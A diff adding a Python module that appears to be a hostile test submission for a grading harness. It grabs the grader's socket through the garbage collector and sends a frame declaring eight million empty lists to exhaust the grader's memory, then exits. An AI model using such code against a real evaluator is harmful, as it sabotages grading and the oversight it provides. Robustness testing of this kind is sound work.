@@ -1,0 +1,19 @@
+"""Answers with a frame of eight million empty lists, each of which takes sixty times its bytes."""
+
+import gc
+import os
+import socket
+import struct
+
+from grader.channel import send_frame
+from grader.wire import Wire
+
+EXERCISE = "any"
+LINK = max((o for o in gc.get_objects() if type(o) is socket.socket), key=socket.socket.fileno)
+HEAD = Wire(None, first_id=1).dump_alone(None)[:-1]  # a message but for its value
+
+
+def __getattr__(name):
+    inside = b"\xdd" + struct.pack(">I", 8_000_000) + b"\x90" * 8_000_000
+    send_frame(LINK, b"a\2\0\0\0" + HEAD + inside)
+    os._exit(0)
